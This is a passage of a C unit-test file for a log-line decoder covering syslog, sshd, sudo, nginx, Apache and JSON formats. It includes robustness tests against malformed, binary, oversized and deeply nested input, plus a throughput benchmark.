	assert_int_equal(decode(LOG_FMT_JSON, "{\"1\":{\"2\":{\"3\":{\"4\":{\"5\":{\"6\":{\"7\":{\"8\":"
		"\"x\",\"o\":{\"9\":\"y\"}}}}}}}}}"), 0);
	expect_field("1.2.3.4.5.6.7.8", "x");
	expect_absent("1.2.3.4.5.6.7.o.9");

	/* Nesting past 256: refused, not a stack overflow. */
	char *deep = xmalloc(100000);
	for (int i = 0; i < 50000; i++)
		deep[i] = '[';
	for (int i = 50000; i < 100000; i++)
		deep[i] = ']';
	deep[0] = '{';
	assert_int_equal(decode_n(LOG_FMT_JSON, deep, 100000), -EINVAL);
	free(deep);
}

static void
json_invalid_lines(void **state)
{
	static const char *const bad[] = {
		"", "{", "}", "[1]", "\"s\"", "{\"a\"}", "{\"a\":}", "{\"a\":1,}", "{\"a\":01}",
		"{\"a\":1.}", "{\"a\":-}", "{\"a\":1e}", "{\"a\":tru}", "{\"a\":\"x}", "{\"a\":\"\\x\"}",
		"{\"a\":\"\\u12\"}", "{\"a\":\"\x01\"}", "{\"a\":1} x", "{a:1}", "{\"a\":[1,]}",
		"{\"a\":1 \"b\":2}", "{\"a\":\"\\", "{\"a\":nul}",
	};

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		if (decode(LOG_FMT_JSON, bad[i]) != -EINVAL)
			fail_msg("accepted: %s", bad[i]);
		assert_int_equal(rec.nfields, 0);
		assert_int_equal(rec.raw_len, strlen(bad[i]));
	}
}

/* ---- auto sniffing ---- */

static void
auto_sniffs_each_format(void **state)
{
	assert_int_equal(decode(LOG_FMT_AUTO, "{\"event\":\"x\"}"), 0);
	expect_field("event", "x");
	assert_int_equal(decode(LOG_FMT_AUTO, nginx_line), 0);
	assert_string_equal(rec.category, "webserver");
	assert_int_equal(decode(LOG_FMT_AUTO,
		"<86>Nov 22 13:55:36 h sshd[1]: Accepted password for a from 192.0.2.1 port 2 ssh2"), 0);
	expect_logsource("linux", "", "sshd");
	assert_int_equal(decode(LOG_FMT_AUTO, "<86>1 - h sudo - - - bob : TTY=x ; COMMAND=/bin/id"), 0);
	expect_logsource("linux", "", "sudo");
	expect_field("command", "/bin/id");
	assert_int_equal(decode(LOG_FMT_AUTO, "just some text"), -EINVAL);
	expect_message("just some text");
	assert_string_equal(rec.product, "");
	/* A '{' that is not JSON: raw kept. */
	assert_int_equal(decode(LOG_FMT_AUTO, "{not json"), -EINVAL);
	assert_int_equal(rec.raw_len, 9);
}

/* ---- hostile input ---- */

static void
far_dates_have_no_time(void **state)
{
	/* int64 nanoseconds end in 2262: such stamps keep the shape, not a time. */
	assert_int_equal(decode(LOG_FMT_NGINX,
		"192.0.2.1 - - [22/Nov/9999:13:55:36 +0800] \"GET / HTTP/1.1\" 200 1"), 0);
	assert_int_equal(rec.time_ns, 0);
	expect_field("sc-status", "200");
	assert_int_equal(decode(LOG_FMT_AUTO, "0001/11/22 13:55:36 [error] 1#1: x"), 0);
	assert_int_equal(rec.time_ns, 0);
	assert_int_equal(decode(LOG_FMT_AUTO, "[Sun Nov 22 13:55:36 9999] [error] x"), 0);
	assert_int_equal(rec.time_ns, 0);
	assert_int_equal(decode(LOG_FMT_AUTO, "<1>1 9999-12-31T23:59:59.999999999-23:59 h p - - - m"), 0);
	assert_int_equal(rec.time_ns, 0);
	assert_int_equal(decode_line(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h p: m", 22, 2147483647, &rec), 0);
	assert_int_equal(rec.time_ns, 0);
}

static const enum log_format all_formats[] = {
	LOG_FMT_AUTO, LOG_FMT_SYSLOG, LOG_FMT_NGINX, LOG_FMT_APACHE, LOG_FMT_JSON,
};

static void
binary_garbage_never_crashes(void **state)
{
	unsigned seed = 12345;
	char buf[512];

	for (int round = 0; round < 2000; round++) {
		size_t n = (size_t)(round % 512);

		for (size_t i = 0; i < n; i++) {
			seed = seed * 1103515245 + 12345;
			buf[i] = (char)(seed >> 16);
		}
		for (size_t f = 0; f < 5; f++) {
			int r = decode_n(all_formats[f], buf, n);

			assert_true(r == 0 || r == -EINVAL);
			assert_int_equal(rec.raw_len, n);
			check_values();
		}
	}
}

static void
invalid_utf8_kept_as_bytes(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[1]: Failed password for "
		"\xff\xfe\xc3 from 192.0.2.1 port 1 ssh2"), 0);
	expect_field("user", "\xff\xfe\xc3");
	assert_int_equal(decode(LOG_FMT_JSON, "{\"k\":\"\xc3\x28\xff\"}"), 0);
	expect_field("k", "\xc3\x28\xff");
	assert_int_equal(decode(LOG_FMT_NGINX, "192.0.2.1 - - [22/Nov/2026:13:55:36 +0800] "
		"\"GET /\xe4\xb8 HTTP/1.1\" 200 1 \"-\" \"\x80\""), 0);
	expect_field("cs-uri", "/\xe4\xb8");
	expect_field("cs-user-agent", "\x80");
}

static void
nul_bytes_cut_values_not_raw(void **state)
{
	static const char l1[] = "Nov 22 13:55:36 h sshd[1]: Failed password for ro\0ot from "
		"192.0.2.1 port 1 ssh2";
	static const char l2[] = "192.0.2.1 - - [22/Nov/2026:13:55:36 +0800] \"GET /a\0b HTTP/1.1\" "
		"200 1 \"-\" \"x\0y\"";
	static const char l3[] = "{\"k\":\"a\0b\"}";

	assert_int_equal(decode_n(LOG_FMT_SYSLOG, l1, sizeof(l1) - 1), 0);
	expect_field("user", "ro");
	expect_field("src_ip", "192.0.2.1");
	assert_int_equal(rec.raw_len, sizeof(l1) - 1);
	check_values();
	assert_int_equal(decode_n(LOG_FMT_NGINX, l2, sizeof(l2) - 1), 0);
	expect_field("cs-uri", "/a");
	expect_field("cs-user-agent", "x");
	expect_field("sc-status", "200");
	check_values();
	/* A raw NUL is a control character: not JSON. */
	assert_int_equal(decode_n(LOG_FMT_JSON, l3, sizeof(l3) - 1), -EINVAL);
	assert_int_equal(rec.raw_len, sizeof(l3) - 1);
}

static void
one_megabyte_lines(void **state)
{
	size_t n = 1 << 20;
	char *big = xmalloc(n);
	static const char *const heads[] = {
		"Nov 22 13:55:36 h sshd[1]: Failed password for ",
		"<1>1 - h sshd 1 - [a b=\"",
		"192.0.2.1 - - [22/Nov/2026:13:55:36 +0800] \"GET /",
		"2026/11/22 13:55:36 [error] 1#0: *1 x, client: ",
		"[Sun Nov 22 13:55:36 2026] [error] [client ",
		"{\"a\":\"",
		"{\"a\":{\"b\":[",
		"",
	};

	for (size_t h = 0; h < sizeof(heads) / sizeof(heads[0]); h++) {
		size_t hl = strlen(heads[h]);

		memcpy(big, heads[h], hl);
		memset(big + hl, h % 2 ? 'A' : ' ', n - hl);
		for (size_t f = 0; f < 5; f++) {
			int r = decode_line(all_formats[f], big, n, YEAR, &rec);

			assert_true(r == 0 || r == -EINVAL);
			assert_int_equal(rec.raw_len, n);
			check_values();
		}
	}
	/* A JSON line of 1 MB that is valid: fields up to what fits. */
	memcpy(big, "{\"a\":\"", 6);
	memset(big + 6, 'x', n - 8);
	memcpy(big + n - 2, "\"}", 2);
	assert_int_equal(decode_line(LOG_FMT_JSON, big, n, YEAR, &rec), 0);
	free(big);
}

static void
many_fields_fill_the_record(void **state)
{
	char buf[8192];
	size_t n = 0;

	buf[n++] = '{';
	for (int i = 0; i < 200; i++)
		n += (size_t)snprintf(buf + n, sizeof(buf) - n, "%s\"k%d\":\"v\\n%d\"", i ? "," : "", i, i);
	buf[n++] = '}';
	assert_int_equal(decode_n(LOG_FMT_JSON, buf, n), 0);
	assert_int_equal(rec.nfields, RECORD_MAX_FIELDS);
	expect_field("k0", "v\n0");
}

static const char *const samples[] = {
	"<38>Nov 22 13:55:36 web1 sshd[123]: Failed password for invalid user a from 1.2.3.4 port 22 ssh2",
	"Nov 22 13:55:36 h sshd[9]: Connection closed by authenticating user root 192.0.2.3 port 6 [preauth]",
	"Nov 22 13:55:36 h sshd[9]: message repeated 5 times: [ Failed password for root from 1.2.3.4 port 2 ssh2]",
	"Nov 22 13:55:36 h sshd[9]: pam_unix(sshd:auth): authentication failure; logname= rhost=1.2.3.4  user=root",
	"Nov 22 13:55:36 h sudo: bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/x y",
	"Nov 22 13:55:36 h su[77]: FAILED SU (to root) mallory on pts/3",
	"Nov 22 13:55:36 h useradd[5]: new user: name=bob, UID=0, GID=0, home=/home/bob, shell=/bin/bash",
	"Nov 22 13:55:36 h usermod[6]: change user 'bob' UID from '1000' to '0'",
	"Nov 22 13:55:01 h CRON[9]: (root) CMD (x)",
	"<34>1 2026-11-22T05:55:36.123+08:00 host sshd 42 ID [s@1 a=\"x\\\"\" b=\"y\"] \xEF\xBB\xBFInvalid user a from 1.2.3.4",
	"www.example.com:443 203.0.113.9 - alice [10/Oct/2000:13:55:36 -0700] \"GET /a?b HTTP/1.1\" 200 2326 \"r\" \"ua\"",
	"2026/11/22 13:55:36 [error] 123#0: *1 m, client: 1.2.3.4, server: x, request: \"GET /?a HTTP/1.1\", host: \"h\"",
	"[Sun Nov 22 13:55:36.123 2026] [core:error] [pid 1:tid 2] [client 1.2.3.4:5] AH1: m, referer: r",
	"{\"a\":{\"b\":\"\\ud83d\\ude00\\u00e9\"},\"n\":-1.5e+3,\"t\":true,\"z\":null,\"l\":[{},[]]}",
};

static void
every_prefix_of_samples(void **state)
{
	for (size_t s = 0; s < sizeof(samples) / sizeof(samples[0]); s++) {
		size_t len = strlen(samples[s]);

		for (size_t n = 0; n <= len; n++)
			for (size_t f = 0; f < 5; f++) {
				int r = decode_n(all_formats[f], samples[s], n);

				assert_true(r == 0 || r == -EINVAL);
				assert_int_equal(rec.raw_len, n);
				check_values();
			}
		/* The whole sample decodes in auto mode. */
		assert_int_equal(decode(LOG_FMT_AUTO, samples[s]), 0);
	}
}

/* ---- speed (printed, never asserted) ---- */

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void
speed(const char *what, enum log_format fmt, char **lines, size_t *lens, size_t nlines)
{
	size_t total = 1000000, ok = 0;
	double t0 = now_s(), dt;

	for (size_t i = 0; i < total; i++)
		ok += decode_line(fmt, lines[i % nlines], lens[i % nlines], YEAR, &rec) == 0;
	dt = now_s() - t0;
	printf("decode %s: %zu lines in %.3f s = %.0f lines/s (%zu decoded)\n", what, total, dt,
	       (double)total / dt, ok);
}

static void
decode_speed(void **state)
{
	enum { N = 1024 };
	char *lines[N];
	size_t lens[N];
	char buf[512];

	for (int i = 0; i < N; i++) {
		int n;

		if (i % 3 == 0)
			n = snprintf(buf, sizeof(buf), "Nov 22 13:%02d:%02d web%d sshd[%d]: Failed password "
				     "for invalid user user%d from 10.%d.%d.%d port %d ssh2", i % 60,
				     (i * 7) % 60, i % 5, 1000 + i, i, i % 256, (i * 3) % 256,
				     (i * 7) % 256, 1024 + i);
		else if (i % 3 == 1)
			n = snprintf(buf, sizeof(buf), "Nov 22 13:%02d:%02d web%d sshd[%d]: Accepted "
				     "publickey for deploy from 10.0.%d.%d port %d ssh2: ED25519 "
				     "SHA256:abcdefghijkl", i % 60, (i * 7) % 60, i % 5, 1000 + i,
				     i % 256, (i * 5) % 256, 2048 + i);
		else
			n = snprintf(buf, sizeof(buf), "Nov 22 13:%02d:%02d web%d sshd[%d]: Connection "
				     "closed by authenticating user root 10.1.%d.%d port %d [preauth]",
				     i % 60, (i * 7) % 60, i % 5, 1000 + i, i % 256, (i * 5) % 256, i);
		lines[i] = xstrdup(buf);
		lens[i] = (size_t)n;
	}
	speed("sshd (syslog)", LOG_FMT_SYSLOG, lines, lens, N);
	speed("sshd (auto)", LOG_FMT_AUTO, lines, lens, N);
	for (int i = 0; i < N; i++) {
		int n = snprintf(buf, sizeof(buf), "10.%d.%d.%d - - [22/Nov/2026:13:%02d:%02d +0800] "
				 "\"GET /shop/item.php?id=%d&ref=home HTTP/1.1\" %d %d "
				 "\"https://www.example.com/\" \"Mozilla/5.0 (X11; Linux x86_64) "
				 "AppleWebKit/537.36 Chrome/120.0 Safari/537.36\"", i % 256,
				 (i * 3) % 256, (i * 7) % 256, i % 60, (i * 7) % 60, i,
				 i % 10 ? 200 : 404, 1000 + i);

		free(lines[i]);
		lines[i] = xstrdup(buf);
		lens[i] = (size_t)n;
	}
	speed("nginx (combined)", LOG_FMT_NGINX, lines, lens, N);
	speed("nginx (auto)", LOG_FMT_AUTO, lines, lens, N);
	for (int i = 0; i < N; i++)
		free(lines[i]);
}

/* "group added to" after a PAM prefix: the ':' is looked for within the line
 * only (it once read past the line, so the next line's bytes decided). */
static void
test_accounts_group_added_bounds(void **state)
{
	(void)state;
	decode(LOG_FMT_SYSLOG,
		"Nov 22 10:00:00 h passwd[1]: pam_unix(x): group added to password changed for bob");
	assert_int_equal(rec.service[0] != '\0', 1);
	assert_string_equal(rec.service, "auth");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_accounts_group_added_bounds),
		cmocka_unit_test_setup_teardown(format_names_parse, setup, teardown),
		cmocka_unit_test_setup_teardown(syslog_3164_without_pri, setup, teardown),
		cmocka_unit_test_setup_teardown(syslog_3164_with_pri_and_padded_day, setup, teardown),
		cmocka_unit_test_setup_teardown(syslog_bad_pri_is_not_syslog, setup, teardown),
		cmocka_unit_test_setup_teardown(syslog_rfc3339_stamp, setup, teardown),
		cmocka_unit_test_setup_teardown(syslog_tagless_line, setup, teardown),
		cmocka_unit_test_setup_teardown(syslog_5424_with_structured_data, setup, teardown),
		cmocka_unit_test_setup_teardown(syslog_5424_nil_fields, setup, teardown),
		cmocka_unit_test_setup_teardown(sshd_failed_password, setup, teardown),
		cmocka_unit_test_setup_teardown(sshd_user_name_cannot_forge_the_address, setup, teardown),
		cmocka_unit_test_setup_teardown(sshd_accepted, setup, teardown),
		cmocka_unit_test_setup_teardown(sshd_invalid_user, setup, teardown),
		cmocka_unit_test_setup_teardown(sshd_connection_closed, setup, teardown),
		cmocka_unit_test_setup_teardown(sshd_disconnected, setup, teardown),
		cmocka_unit_test_setup_teardown(sshd_max_auth_attempts, setup, teardown),
		cmocka_unit_test_setup_teardown(sshd_pam_failure, setup, teardown),
		cmocka_unit_test_setup_teardown(sshd_message_repeated, setup, teardown),
		cmocka_unit_test_setup_teardown(sshd_other_message_has_no_event, setup, teardown),
		cmocka_unit_test_setup_teardown(sudo_command, setup, teardown),
		cmocka_unit_test_setup_teardown(sudo_failures, setup, teardown),
		cmocka_unit_test_setup_teardown(su_forms, setup, teardown),
		cmocka_unit_test_setup_teardown(accounts_useradd, setup, teardown),
		cmocka_unit_test_setup_teardown(accounts_usermod_passwd_userdel, setup, teardown),
		cmocka_unit_test_setup_teardown(cron_command, setup, teardown),
		cmocka_unit_test_setup_teardown(access_combined, setup, teardown),
		cmocka_unit_test_setup_teardown(access_dashes_escapes_and_no_query, setup, teardown),
		cmocka_unit_test_setup_teardown(access_vhost_and_common, setup, teardown),
		cmocka_unit_test_setup_teardown(access_bad_shapes, setup, teardown),
		cmocka_unit_test_setup_teardown(nginx_error_log, setup, teardown),
		cmocka_unit_test_setup_teardown(apache_error_log, setup, teardown),
		cmocka_unit_test_setup_teardown(json_fields_and_nesting, setup, teardown),
		cmocka_unit_test_setup_teardown(json_escapes, setup, teardown),
		cmocka_unit_test_setup_teardown(json_depth_limit, setup, teardown),
		cmocka_unit_test_setup_teardown(json_invalid_lines, setup, teardown),
		cmocka_unit_test_setup_teardown(auto_sniffs_each_format, setup, teardown),
		cmocka_unit_test_setup_teardown(far_dates_have_no_time, setup, teardown),
		cmocka_unit_test_setup_teardown(binary_garbage_never_crashes, setup, teardown),
		cmocka_unit_test_setup_teardown(invalid_utf8_kept_as_bytes, setup, teardown),
		cmocka_unit_test_setup_teardown(nul_bytes_cut_values_not_raw, setup, teardown),
		cmocka_unit_test_setup_teardown(one_megabyte_lines, setup, teardown),
		cmocka_unit_test_setup_teardown(many_fields_fill_the_record, setup, teardown),
		cmocka_unit_test_setup_teardown(every_prefix_of_samples, setup, teardown),
		cmocka_unit_test_setup_teardown(decode_speed, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
